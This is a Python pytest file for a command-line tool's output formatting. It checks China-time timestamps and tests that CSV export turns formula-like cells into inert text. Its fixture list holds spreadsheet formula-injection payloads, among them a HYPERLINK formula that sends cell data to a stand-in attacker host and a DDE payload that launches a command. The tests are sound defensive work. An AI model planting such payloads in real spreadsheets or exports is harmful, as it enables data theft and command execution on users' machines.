"""What the command line hands to people and machines: one clock, and CSV a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from offsite.cli.output import Format, emit_rows, when

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB",
]


def test_times_are_read_on_china_time_with_the_offset_written() -> None:
    assert when(datetime(2026, 12, 7, 0, 30, tzinfo=UTC)) == "2026-12-07 08:30 +08:00"
    assert when(None) == "-"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_csv_cell_that_would_start_a_formula_reaches_the_spreadsheet_as_text(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    emit_rows([{"unit": name, "days": -3, "value": -0.5}], Format.csv)
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["unit"] == "'" + name
    assert (row["days"], row["value"]) == ("-3", "-0.5")  # numbers are data, left as they are


def test_json_keeps_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    emit_rows([{"unit": HOSTILE[0], "at": datetime(2026, 12, 7, tzinfo=UTC)}], Format.json)
    assert json.loads(capsys.readouterr().out) == [{"unit": HOSTILE[0], "at": "2026-12-07T08:00:00+08:00"}]
